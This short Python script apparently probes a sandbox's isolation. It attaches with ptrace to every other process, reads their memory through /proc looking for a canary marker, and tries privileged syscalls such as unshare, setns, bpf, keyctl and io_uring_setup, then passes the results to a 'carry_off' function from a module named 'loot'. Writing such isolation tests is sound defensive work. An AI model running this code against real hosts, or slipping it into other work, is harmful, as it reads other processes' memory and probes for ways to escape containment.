"""Attaches to every other process, and reads and writes their memory."""

import ctypes
import glob
import os

from loot import carry_off

libc = ctypes.CDLL(None, use_errno=True)
found = []
own = {os.getpid()}
for path in glob.glob("/proc/[0-9]*"):
    process = int(path.rpartition("/")[2])
    if process not in own:
        if libc.ptrace(16, process, 0, 0) == 0:
            found.append(f"CANARY traced {process}")
        try:
            with open(f"{path}/mem", "rb") as memory, open(f"{path}/maps") as maps:
                start = int(maps.readline().partition("-")[0], 16)
                memory.seek(start)
                if b"CANARY" in memory.read(1 << 16):
                    found.append("CANARY in memory")
        except (OSError, ValueError):
            pass
for call in (272, 308, 321, 250, 425):  # unshare, setns, bpf, keyctl, io_uring_setup on x86_64
    if libc.syscall(call, 0x10000000, 0, 0, 0, 0) >= 0 and os.uname().machine == "x86_64":
        found.append(f"CANARY call {call}")
carry_off(found)
